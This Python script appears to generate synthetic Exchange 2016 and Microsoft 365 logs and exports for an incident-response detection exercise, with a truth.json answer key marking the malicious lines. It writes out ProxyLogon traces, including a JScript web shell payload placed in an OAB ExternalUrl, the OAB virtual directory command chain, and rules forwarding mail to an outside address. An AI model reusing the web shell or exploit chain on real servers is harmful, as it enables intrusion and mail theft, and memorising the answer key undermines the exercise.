#!/usr/bin/env python3
"""Writes samples/exchange-exports: what a responder copies off Oceanlab's Exchange 2016
server (HttpProxy, ECP, OABGenerator, IIS and message tracking logs) and exports from its
Microsoft 365 tenant (Purview audit log CSV, Get-InboxRule / Get-Mailbox / Get-TransportRule
CSVs), with the story's ground truth in truth.json. Deterministic: run it again and the files
are byte-identical. Formats follow the products' documented headers; addresses are from the
documentation ranges (RFC 5737)."""

import csv, io, json, os, random, uuid
from datetime import datetime, timedelta, timezone

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "exchange-exports")
rnd = random.Random(20260303)
UTC = timezone.utc
ORG = "oceanlab.example.org"
TENANT = "oceanlab.onmicrosoft.com"
EXCH_ATTACKER = "192.0.2.66"
CLOUD_ATTACKER = "203.0.113.50"
OFFICE = ["198.51.100.%d" % i for i in (11, 12, 13, 14, 15, 16)]
LEGIT = ["li.na", "chen.jie", "zhou.min", "sun.hao"]
VICTIM = "wang.fang"
ADMIN = "it.admin"
truth = {"story": "", "items": [], "legit_users": [], "files": {}}


def upn(u):
    return f"{u}@{ORG}"


def gid():
    return str(uuid.UUID(int=rnd.getrandbits(128)))


def iso(t, ms=True):
    return t.strftime("%Y-%m-%dT%H:%M:%S") + (".%03dZ" % (t.microsecond // 1000) if ms else "")


def write(rel, text, crlf=True):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.replace("\n", "\r\n") if crlf else text
    with open(path, "w", newline="", encoding="utf-8") as f:
        f.write(data)
    truth["files"][rel] = len(text.splitlines())


def item(rule, rel, lines, what, phase, users=(), ips=()):
    truth["items"].append({"rule": rule, "file": rel, "lines": sorted(lines), "what": what,
                           "phase": phase, "users": list(users), "ips": list(ips)})


# ---------------------------------------------------------------- HttpProxy (Ecp, Owa)
PROXY = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
         "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
         "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,"
         "ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
         "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
         "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
         "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
         "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
         "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
         "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
         "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
         "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,"
         "RoutingLatency,HttpProxyOverhead,TotalRequestTime,UrlQuery,BackEndGenericInfo,GenericInfo,"
         "GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus")
NPROXY = len(PROXY.split(","))


def proxy_head(kind, t):
    return ("#Software: Microsoft Exchange Server\n#Version: 15.01.2176.002\n"
            f"#Log-type: HttpProxy Logs\n#Date: {iso(t)}\n#Fields: {PROXY}\n")


def proxy_row(t, proto, host, stem, user, anchor, ua, ip, status, method, hint, query=""):
    cells = [iso(t), gid(), "15", "1", "2176", "2", "", proto, host, stem, "", "FBA" if user else "",
             "True" if user else "False", user, "", anchor, ua, ip, "EXCH01", str(status), str(status),
             "", method, "Proxy", "exch01.oceanlab.local", "Version 15.1 (Build 2176.2)", "", hint]
    cells += [""] * (NPROXY - len(cells))
    cells[64] = query
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
day = datetime(2026, 3, 3, 0, 0, tzinfo=UTC)

# ECP HttpProxy: staff use of ECP (options page) and the attack.
ecp_rows = []
for h in (1, 2, 5, 6, 7):
    t = day + timedelta(hours=h, minutes=rnd.randint(0, 50), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT)
    ecp_rows.append((t, proxy_row(t, "Ecp", "mail.oceanlab.example.org", "/ecp/PersonalSettings/HomePage.aspx",
                                  f"OCEANLAB\\{u}", f"Sid~S-1-5-21-{rnd.randint(1000, 9999)}", BROWSER,
                                  rnd.choice(OFFICE), 200, "GET", "Sid")))
attack = day + timedelta(hours=3, minutes=12, seconds=4)
ssrf_paths = [("/autodiscover/autodiscover.xml?#", 200, "ExchangeServicesClient/0.0.0.0"),
              ("/mapi/emsmdb/?#", 200, "python-requests/2.25.1"),
              ("/ecp/proxyLogon.ecp?#", 241, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Q2x.&schema=OABVirtualDirectory#", 200, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Q2x.&schema=OABVirtualDirectory#", 200, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Q2x.&schema=ResetOABVirtualDirectory#", 200, "python-requests/2.25.1")]
ssrf_times = []
for i, (path, st, ua) in enumerate(ssrf_paths):
    t = attack + timedelta(seconds=2 * i + rnd.random())
    ssrf_times.append(t)
    ecp_rows.append((t, proxy_row(t, "Ecp", "mail.oceanlab.example.org", "/ecp/x3k.js", "",
                                  f"ServerInfo~a]@exch01.oceanlab.local:444{path}", ua, EXCH_ATTACKER, st,
                                  "POST", "X-BEResource-Cookie")))
ecp_rows.sort()
rel = "exch01/Logging/HttpProxy/Ecp/HttpProxy_2026030300-1.LOG"
head = proxy_head("Ecp", day)
lines = [r for _, r in ecp_rows]
write(rel, head + "".join(lines))
hl = len(head.splitlines())
item("exchange.proxylogon_ssrf", rel,
     [hl + 1 + i for i, (t, r) in enumerate(ecp_rows) if EXCH_ATTACKER in r],
     "CVE-2021-26855: forged AnchorMailbox requests from the attacker", "initial_access", ips=[EXCH_ATTACKER])

# OWA HttpProxy: ordinary staff webmail.
owa = []
for n in range(60):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT + [VICTIM])
    stem = rnd.choice(["/owa/", "/owa/service.svc", "/owa/auth/logon.aspx", "/owa/ev.owa2"])
    owa.append((t, proxy_row(t, "Owa", "mail.oceanlab.example.org", stem, f"OCEANLAB\\{u}",
                             f"Smtp~{upn(u)}", BROWSER, rnd.choice(OFFICE), 200,
                             "POST" if "svc" in stem or "logon" in stem else "GET", "Smtp")))
owa.sort()
write("exch01/Logging/HttpProxy/Owa/HttpProxy_2026030300-1.LOG", proxy_head("Owa", day) + "".join(r for _, r in owa))

# ---------------------------------------------------------------- ECP server log
ecp = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: ECP Server Log",
       f"#Date: {iso(day)}", "#Fields: DateTime,ServerName,EventType,EventData"]
ev = []
for h in (1, 6):
    t = day + timedelta(hours=h, minutes=rnd.randint(0, 50))
    ev.append((t, f"{iso(t)},EXCH01,ECP.Request,\"S:TIME=312;S:SID={gid()};'S:CMD=Get-Mailbox.Identity=''{upn(rnd.choice(LEGIT))}''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=;S:ACTID={gid()};S:RS=0;S:BLD=15.1.2176.2\"", False))
shell = "Xs9t2k"
payload = ("http://x/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"p4ss\"\"],\"\"unsafe\"\");}</script>")
chain = [
    ("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", False),
    (f"Set-OabVirtualDirectory.ExternalUrl=''{payload}''.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", True),
    ("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", False),
    ("Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", False),
    ("Remove-OABVirtualDirectory.Force=$true.Identity=''EXCH01\\OAB (Default Web Site)''", False),
    ("New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''EXCH01''.Role=''ClientAccess''.Path=''C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\" + shell + ".aspx''", False),
]
for i, (cmd, _) in enumerate(chain):
    t = attack + timedelta(seconds=5 + 3 * i)
    ev.append((t, f"{iso(t)},EXCH01,ECP.Request,\"S:TIME={rnd.randint(100, 5000)};S:SID={gid()};'S:CMD={cmd}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=;S:ACTID={gid()};S:RS=0;S:BLD=15.1.2176.2\"", True))
ev.sort()
rel = "exch01/Logging/ECP/Server/ECPServer2026030300-1.LOG"
write(rel, "\n".join(ecp + [l for _, l, _ in ev]) + "\n")
item("exchange.proxylogon_ecp_write", rel, [len(ecp) + 1 + i for i, (_, _, a) in enumerate(ev) if a],
     "CVE-2021-27065: OAB virtual directory ExternalUrl set to a JScript web shell, and the chain around it",
     "persistence")

# ---------------------------------------------------------------- OABGenerator log
oab = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: OABGenerator Log",
       f"#Date: {iso(day)}", "#Fields: DateTime,ThreadId,TraceLevel,Message"]
for h in range(0, 24, 4):
    t = day + timedelta(hours=h, minutes=2)
    oab.append(f"{iso(t)},17,Info,OABGeneratorAssistant: generation of offline address book '\\Default Offline Address Book' completed.")
t = attack + timedelta(seconds=40)
bad = len(oab) + 1
oab.append(f"{iso(t)},23,Error,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell}.aspx' needs to be removed.")
oab.sort(key=lambda l: (not l.startswith("#"), l))
bad = [i + 1 for i, l in enumerate(oab) if "Download failed" in l]
rel = "exch01/Logging/OABGeneratorLog/OABGenerator2026030300-1.LOG"
write(rel, "\n".join(oab) + "\n")
item("exchange.proxylogon_oab_write", rel, bad, "CVE-2021-26858: file written to aspnet_client", "persistence")

# ---------------------------------------------------------------- IIS W3C
iis = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", f"#Date: {day:%Y-%m-%d} 00:00:00",
       "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"]
rows = []
for n in range(80):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT + [VICTIM])
    stem, m = rnd.choice([("/owa/auth/logon.aspx", "POST"), ("/owa/", "GET"), ("/owa/service.svc", "POST"),
                          ("/EWS/Exchange.asmx", "POST"), ("/Microsoft-Server-ActiveSync/default.eas", "POST"),
                          ("/owa/auth/15.1.2176/themes/resources/favicon.ico", "GET")])
    user = "-" if "logon" in stem or "favicon" in stem else f"OCEANLAB\\{u}"
    rows.append((t, f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {m} {stem} &CorrelationID=<empty>;&cafeReqId={gid()}; 443 {user} {rnd.choice(OFFICE)} {BROWSER.replace(' ', '+')} - 200 0 0 {rnd.randint(5, 400)}", False))
shell_hits = [(40, "GET", "/owa/auth/Current/themes/resources/errorEE.aspx", 404),
              (55, "GET", "/owa/auth/OutlookEN.aspx", 404),
              (70, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200),
              (3600, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200),
              (7300, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200)]
for secs, m, stem, st in shell_hits:
    t = attack + timedelta(seconds=secs)
    rows.append((t, f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {m} {stem} - 443 - {EXCH_ATTACKER} antSword/v2.1 - {st} 0 0 {rnd.randint(5, 90)}", True))
rows.sort()
rel = "exch01/W3SVC1/u_ex260303.log"
write(rel, "\n".join(iis + [r for _, r, _ in rows]) + "\n")
item("exchange.webshell", rel, [len(iis) + 1 + i for i, (_, _, a) in enumerate(rows) if a],
     "web shell probing and use of aspnet_client/system_web/Xs9t2k.aspx", "persistence", ips=[EXCH_ATTACKER])

# ---------------------------------------------------------------- message tracking
MT = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,"
      "internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
      "recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,"
      "message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data,"
      "transport-traffic-type,log-id,schema-version")
mt = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: Message Tracking Log",
      f"#Date: {iso(day)}", f"#Fields: {MT}"]
msgs = []
for n in range(25):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60))
    s, r = rnd.sample(LEGIT + [VICTIM], 2)
    mid = f"<{gid()}@exch01.oceanlab.local>"
    subj = rnd.choice(["Cruise schedule", "Sample inventory", "Lab meeting", "Budget 2026"])
    for k, (ev_id, src) in enumerate([("RECEIVE", "SMTP"), ("DELIVER", "STOREDRIVER")]):
        tt = t + timedelta(seconds=k)
        cells = [iso(tt), "10.0.0.5", "EXCH01.oceanlab.local", "10.0.0.5", "EXCH01", "08DC1DB12C345BE5;" + iso(tt) + ";0",
                 "EXCH01\\Default EXCH01", src, ev_id, str(rnd.randint(10**13, 10**14)), mid, gid(), upn(r), "250 2.1.5 Recipient OK" if k else "",
                 str(rnd.randint(3000, 90000)), "1", "", "", subj, upn(s), upn(s), "", "Originating", "", "", "", "", "Email", gid(), "15.01.2176.002"]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerow(cells)
        msgs.append((tt, out.getvalue().rstrip("\n")))
msgs.sort()
write("exch01/Logging/MessageTracking/MSGTRK2026030300-1.LOG", "\n".join(mt + [m for _, m in msgs]) + "\n")

# ---------------------------------------------------------------- Purview unified audit log
recs = []


def ual(t, op, user, workload, rtype, ip, extra, status="Success"):
    d = {"CreationTime": t.strftime("%Y-%m-%dT%H:%M:%S"), "Id": gid(), "Operation": op,
         "OrganizationId": "5d0b7c3a-0f3e-4c7e-9a43-3f5ab7c0e2d1", "RecordType": rtype, "ResultStatus": status,
         "UserKey": gid(), "UserType": 0, "Version": 1, "Workload": workload, "ClientIP": ip,
         "ObjectId": "", "UserId": user}
    d.update(extra)
    recs.append((t, op, user, d))


def login(t, u, ip, ok=True):
    ext = [{"Name": "ResultStatusDetail", "Value": "Success" if ok else "Invalid"},
           {"Name": "UserAgent", "Value": BROWSER}, {"Name": "RequestType", "Value": "Login:login"}]
    extra = {"ExtendedProperties": ext, "ActorIpAddress": ip, "AzureActiveDirectoryEventType": 1}
    if not ok:
        extra["LogonError"] = "InvalidUserNameOrPassword"
    ual(t, "UserLoggedIn" if ok else "UserLoginFailed", upn(u), "AzureActiveDirectory", 15, ip, extra)


def exo(t, op, u, ip, params, obj=""):
    ual(t, op, upn(u), "Exchange", 1, f"{ip}:{rnd.randint(20000, 60000)}",
        {"ObjectId": obj, "OrganizationName": TENANT, "OriginatingServer": "SG2PR01MB2345 (15.20.7452.028)",
         "Parameters": [{"Name": k, "Value": v} for k, v in params], "ExternalAccess": False}, status="True")


start = datetime(2026, 3, 1, 0, 0, tzinfo=UTC)
for d in range(4):
    for u in LEGIT + [VICTIM, ADMIN]:
        for k in range(rnd.randint(2, 4)):
            t = start + timedelta(days=d, hours=rnd.randint(0, 9), minutes=rnd.randint(0, 59), seconds=rnd.randint(0, 59))
            login(t, u, rnd.choice(OFFICE))
# legitimate rules and settings
exo(start + timedelta(days=1, hours=2, minutes=14), "New-InboxRule", "li.na", OFFICE[0],
    [("Name", "Newsletters"), ("From", "news@marine-journal.example.com"), ("MoveToFolder", "Newsletters"), ("StopProcessingRules", "False")])
exo(start + timedelta(days=1, hours=3, minutes=40), "New-InboxRule", "chen.jie", OFFICE[1],
    [("Name", "Ship reports to deputy"), ("SubjectContainsWords", "ship report"), ("ForwardTo", f"sun.hao@{ORG}")])
exo(start + timedelta(days=2, hours=1, minutes=5), "Set-Mailbox", "zhou.min", OFFICE[2],
    [("Identity", upn("sun.hao")), ("ForwardingSmtpAddress", f"smtp:li.na@{ORG}"), ("DeliverToMailboxAndForward", "True")])
exo(start + timedelta(days=2, hours=2, minutes=30), "New-TransportRule", "zhou.min", OFFICE[2],
    [("Name", "External disclaimer"), ("FromScope", "InOrganization"), ("SentToScope", "NotInOrganization"),
     ("ApplyHtmlDisclaimerText", "This message is from Oceanlab."), ("Enabled", "True")])
# the attack on wang.fang: password guessing, then a sign-in from a new network
t0 = datetime(2026, 3, 4, 14, 2, 11, tzinfo=UTC)
for i in range(7):
    login(t0 + timedelta(seconds=37 * i), VICTIM, CLOUD_ATTACKER, ok=False)
t_in = t0 + timedelta(seconds=37 * 7 + 5)
login(t_in, VICTIM, CLOUD_ATTACKER)
exo(t_in + timedelta(minutes=6), "New-InboxRule", VICTIM, CLOUD_ATTACKER,
    [("Name", "."), ("SubjectOrBodyContainsWords", "invoice;payment;bank"), ("ForwardTo", "fang.wang.office@mailbox-relay.example.net"),
     ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True"), ("StopProcessingRules", "True")], obj=upn(VICTIM) + "\\.")
exo(t_in + timedelta(minutes=9), "Set-Mailbox", VICTIM, CLOUD_ATTACKER,
    [("Identity", upn(VICTIM)), ("ForwardingSmtpAddress", "smtp:fang.wang.office@mailbox-relay.example.net"), ("DeliverToMailboxAndForward", "False")])
# and on the admin, phished the same afternoon
t_adm = t_in + timedelta(minutes=31)
login(t_adm, ADMIN, CLOUD_ATTACKER)
exo(t_adm + timedelta(minutes=4), "New-TransportRule", ADMIN, CLOUD_ATTACKER,
    [("Name", "Compliance copy"), ("FromScope", "InOrganization"), ("BlindCopyTo", "archive-7731@mailbox-relay.example.net"), ("Enabled", "True")])
recs.sort(key=lambda r: r[0], reverse=True)  # Purview lists the newest first
out = io.StringIO()
w = csv.writer(out, lineterminator="\n")
w.writerow(["RecordId", "CreationDate", "RecordType", "Operation", "UserId", "AuditData", "AssociatedAdminUnits", "AssociatedAdminUnitsNames"])
ual_lines = {}
for i, (t, op, user, d) in enumerate(recs):
    w.writerow([d["Id"], f"{t.month}/{t.day}/{t.year} {t.strftime('%I').lstrip('0')}:{t:%M:%S %p}", d["RecordType"], op, user,
                json.dumps(d, separators=(",", ":")), "", ""])
    ual_lines.setdefault((op, user, t), i + 2)
rel = "m365/purview-unified-audit-log.csv"
write(rel, out.getvalue())


def lines_of(pred):
    return sorted(l for (op, u, t), l in ual_lines.items() if pred(op, u, t))


item("auth.compromised_account", rel,
     lines_of(lambda op, u, t: u == upn(VICTIM) and t0 <= t <= t_in and op.startswith("UserLog")),
     "7 failed sign-ins then a success for wang.fang from the attacker", "initial_access", users=[upn(VICTIM)], ips=[CLOUD_ATTACKER])
item("auth.compromised_account", rel,
     lines_of(lambda op, u, t: u == upn(ADMIN) and t == t_adm),
     "it.admin signs in from the address that just guessed wang.fang's password", "initial_access",
     users=[upn(ADMIN)], ips=[CLOUD_ATTACKER])
item("persistence.mailbox_rule", rel, lines_of(lambda op, u, t: op == "New-InboxRule" and u == upn(VICTIM)),
     "inbox rule forwarding invoice/payment mail outside and hiding it in RSS Feeds", "persistence", users=[upn(VICTIM)])
item("persistence.mailbox_forwarding", rel, lines_of(lambda op, u, t: op == "Set-Mailbox" and u == upn(VICTIM)),
     "mailbox forwarding of wang.fang to an outside address, no copy kept", "persistence", users=[upn(VICTIM)])
item("persistence.transport_rule", rel, lines_of(lambda op, u, t: op == "New-TransportRule" and u == upn(ADMIN)),
     "transport rule blind-copying all internal senders' mail outside", "persistence", users=[upn(ADMIN)])
item("auth.rule_after_login", rel,
     lines_of(lambda op, u, t: (u == upn(VICTIM) and t in (t_in,)) or (u == upn(VICTIM) and op in ("New-InboxRule", "Set-Mailbox"))),
     "wang.fang: sign-in from a new network, then rule and forwarding within minutes", "initial_access", users=[upn(VICTIM)])
item("auth.rule_after_login", rel,
     lines_of(lambda op, u, t: u == upn(ADMIN) and (t == t_adm or op == "New-TransportRule")),
     "it.admin: sign-in from a new network, then a transport rule", "initial_access", users=[upn(ADMIN)])

# ---------------------------------------------------------------- inventories (exported 2026-03-05)
def csv_text(header, rows, ps_type=None):
    out = io.StringIO()
    if ps_type:
        out.write(f"#TYPE {ps_type}\n")
    w = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n")
    w.writerow(header)
    for r in rows:
        w.writerow(r)
    return out.getvalue()


ib_head = ["MailboxOwnerId", "Name", "Enabled", "Priority", "RuleIdentity", "StopProcessingRules", "MoveToFolder", "RedirectTo",
           "ForwardTo", "ForwardAsAttachmentTo", "MarkAsRead", "DeleteMessage", "From", "SubjectContainsWords",
           "SubjectOrBodyContainsWords", "Description"]
ib = [
    [upn("li.na"), "Newsletters", "True", "1", "4718364019236954113", "False", "Newsletters", "", "", "", "False", "False",
     "news@marine-journal.example.com", "", "", "If the message:\n\tthe message was received from 'news@marine-journal.example.com'\nTake the following actions:\n\tmove the message to folder 'Newsletters'\n"],
    [upn("chen.jie"), "Ship reports to deputy", "True", "1", "4718364019236954114", "False", "", "", f"\"Sun Hao\" [SMTP:sun.hao@{ORG}]", "", "False", "False",
     "", "ship report", "", "If the message:\n\tincludes 'ship report' in the subject\nTake the following actions:\n\tforward the message to 'Sun Hao'\n"],
    [upn(VICTIM), ".", "True", "1", "4718364019236954115", "True", "RSS Feeds", "", "\"fang.wang.office@mailbox-relay.example.net\" [SMTP:fang.wang.office@mailbox-relay.example.net]", "",
     "True", "False", "", "", "invoice;payment;bank", "If the message:\n\tincludes 'invoice' or 'payment' or 'bank' in the subject or body\nTake the following actions:\n\tmove the message to folder 'RSS Feeds'\n\tand forward the message to 'fang.wang.office@mailbox-relay.example.net'\n\tand mark the message as read\n"],
]
rel = "m365/inbox-rules.csv"
write(rel, csv_text(ib_head, ib, "Microsoft.Exchange.Management.Common.InboxRule"))


def line_of(rel, marker):
    with open(os.path.join(OUT, rel), encoding="utf-8") as f:
        return [i + 1 for i, l in enumerate(f.read().split("\n")) if l.startswith(marker)]


item("persistence.mailbox_rule", rel, line_of(rel, f'"{upn(VICTIM)}"'), "the same rule, still present at export", "persistence", users=[upn(VICTIM)])

mb_head = ["DisplayName", "UserPrincipalName", "PrimarySmtpAddress", "ForwardingSmtpAddress", "ForwardingAddress", "DeliverToMailboxAndForward", "WhenChangedUTC"]
mb = [["Li Na", upn("li.na"), upn("li.na"), "", "", "False", "2/11/2026 3:14:07 AM"],
      ["Chen Jie", upn("chen.jie"), upn("chen.jie"), "", "", "False", "1/20/2026 9:02:44 AM"],
      ["Zhou Min", upn("zhou.min"), upn("zhou.min"), "", "", "False", "12/1/2025 1:00:00 AM"],
      ["Sun Hao", upn("sun.hao"), upn("sun.hao"), f"smtp:li.na@{ORG}", "", "True", "3/3/2026 1:05:00 AM"],
      ["Wang Fang", upn(VICTIM), upn(VICTIM), "smtp:fang.wang.office@mailbox-relay.example.net", "", "False", "3/4/2026 2:15:03 PM"],
      ["IT Admin", upn(ADMIN), upn(ADMIN), "", "", "False", "6/30/2025 8:00:00 AM"]]
rel = "m365/mailboxes.csv"
write(rel, csv_text(mb_head, mb, "Deserialized.Microsoft.Exchange.Data.Directory.Management.Mailbox"))
item("persistence.mailbox_forwarding", rel, line_of(rel, '"Wang Fang"'), "the forwarding, still set at export", "persistence", users=[upn(VICTIM)])

tr_head = ["Name", "State", "Mode", "Priority", "BlindCopyTo", "RedirectMessageTo", "CopyTo", "CreatedBy", "WhenChanged", "Description"]
tr = [["External disclaimer", "Enabled", "Enforce", "0", "", "", "", "Zhou Min", "3/3/2026 2:30:00 AM",
       "If the message:\n\tIs sent to 'Outside the organization'\nTake the following actions:\n\tAppend disclaimer 'This message is from Oceanlab.'\n"],
      ["Compliance copy", "Enabled", "Enforce", "1", "archive-7731@mailbox-relay.example.net", "", "", "IT Admin", "3/4/2026 2:52:17 PM",
       "If the message:\n\tIs sent by a member of 'Inside the organization'\nTake the following actions:\n\tBlind carbon copy (Bcc) the message to 'archive-7731@mailbox-relay.example.net'\n"]]
rel = "m365/transport-rules.csv"
write(rel, csv_text(tr_head, tr))
item("persistence.transport_rule", rel, line_of(rel, '"Compliance copy"'), "the BCC rule, still enabled at export", "persistence", users=[])

truth["legit_users"] = [upn(u) for u in LEGIT]
truth["story"] = ("Oceanlab's on-premises Exchange 2016 server (exch01) was exploited with ProxyLogon on "
                  "2026-03-03 from 192.0.2.66: forged back-end requests, an OAB virtual directory turned into a "
                  "JScript web shell at aspnet_client/system_web/Xs9t2k.aspx, then hours of shell use. On "
                  "2026-03-04 the attacker guessed wang.fang's Microsoft 365 password from 203.0.113.50, added an "
                  "inbox rule that forwards invoice/payment/bank mail outside and hides it in RSS Feeds, set her "
                  "mailbox to forward everything to the same outside address, and with the phished it.admin login "
                  "added a transport rule that blind-copies all internal mail outside. li.na, chen.jie, zhou.min "
                  "and sun.hao are ordinary users with ordinary rules, forwarding and a disclaimer.")
with open(os.path.join(OUT, "truth.json"), "w") as f:
    json.dump(truth, f, indent=2)
    f.write("\n")
